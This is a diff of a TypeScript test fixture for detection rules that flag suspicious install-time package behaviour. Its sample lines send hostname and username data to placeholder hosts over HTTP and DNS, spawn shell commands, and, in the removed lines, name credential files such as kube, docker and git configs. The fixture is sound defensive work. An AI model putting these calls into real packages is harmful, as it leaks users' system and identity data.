@@ -4,65 +4,58 @@ import * as os from 'os';
 import * as https from 'https';
 // ruleid: pkg.install-time.network
 import got from 'got';
-// ruleid: pkg.install-time.network
 import { request } from 'node:http2';
-// ok: pkg.install-time.network
 import { httpStatus } from './http-status';
-// ok: pkg.install-time.network
 import type { Agent } from './agent';
-// ok: pkg.install-time.network
-import * as net2 from './net';
-
-// ruleid: pkg.install-time.dns
 import { lookup } from 'dns';
 // ruleid: pkg.install-time.dns
 import * as dnsp from 'node:dns/promises';
-// ruleid: pkg.install-time.dns
-import dns from 'dns';
-// ok: pkg.install-time.dns
 import { encode } from 'dns-packet';
-// ok: pkg.install-time.dns
-import { resolve } from 'path';
-// ok: pkg.install-time.dns
-import * as dnsUtil from './dns-util';
-
-// ruleid: pkg.install-time.child-process
 import { execSync } from 'child_process';
 // ruleid: pkg.install-time.child-process
 import * as cp from 'node:child_process';
-// ruleid: pkg.install-time.child-process
-import cpx from 'child_process';
-// ok: pkg.install-time.child-process
 import { Worker } from 'worker_threads';
-// ok: pkg.install-time.child-process
-import * as proc from './process';
-// ok: pkg.install-time.child-process
 import { spawnSync } from './spawn';
 
-export async function run(body: string): Promise<void> {
-  // ruleid: pkg.install-time.fetch
+export async function run(body: string, agent: Agent): Promise<void> {
+  // ruleid: pkg.install-time.network
+  https.get({ host: 'x.example.com', agent }, () => undefined);
+  // ruleid: pkg.install-time.network
+  await got.post('https://collector.example.com', { body });
+  // ruleid: pkg.install-time.network
+  request('https://x.example.com');
+  // ruleid: pkg.install-time.network
   const res: Response = await fetch(`https://x.example.com/?h=${os.hostname()}`);
-  // ruleid: pkg.install-time.fetch
-  await fetch('https://collector.example.com', { method: 'POST', body });
-  // ruleid: pkg.install-time.fetch
-  const s = new WebSocket('wss://ws.example.com');
-  // ok: pkg.install-time.fetch
-  const r = await fetchLocal(body);
-  // ok: pkg.install-time.fetch
+  // ok: pkg.install-time.network
+  const code: number = httpStatus(res.status);
+  // ok: pkg.install-time.network
   const m = new Map<string, number>();
-  // ok: pkg.install-time.fetch
-  void [res, s, r, m, lookup, dnsp, dns, execSync, cp, cpx, https, got, request];
-}
+  // ok: pkg.install-time.network
+  void [code, m];
 
-// ruleid: pkg.install-time.credentials
-const kube: string = `${os.homedir()}/.kube/config`;
-// ruleid: pkg.install-time.credentials
-const docker = os.homedir() + '/.docker/config.json';
-// ruleid: pkg.install-time.credentials
-const gitCreds: string = '~/.git-credentials';
-// ok: pkg.install-time.credentials
-const tsconfig: string = './tsconfig.json';
-// ok: pkg.install-time.credentials
-const sshLike = 'sshd_config';
-// ok: pkg.install-time.credentials
-const npmrcDoc = 'see the npm docs';
+  // ruleid: pkg.install-time.dns
+  lookup(`${os.hostname()}.x.example.com`, () => undefined);
+  // ruleid: pkg.install-time.dns
+  await dnsp.resolveTxt('x.example.com');
+  // ruleid: pkg.install-time.dns
+  await dnsp.resolve4(os.userInfo().username + '.x.example.com');
+  // ok: pkg.install-time.dns
+  const packet: Buffer = encode({ type: 'query' });
+  // ok: pkg.install-time.dns
+  const lookupTable: Record<string, string> = {};
+  // ok: pkg.install-time.dns
+  void [packet, lookupTable];
+
+  // ruleid: pkg.install-time.child-process
+  execSync('id');
+  // ruleid: pkg.install-time.child-process
+  cp.spawn('sh', ['-c', 'id'], { detached: true }).unref();
+  // ruleid: pkg.install-time.child-process
+  const out: string = cp.execFileSync('uname').toString();
+  // ok: pkg.install-time.child-process
+  const w = new Worker('./w.js');
+  // ok: pkg.install-time.child-process
+  spawnSync('x');
+  // ok: pkg.install-time.child-process
+  void [out, w];
+}
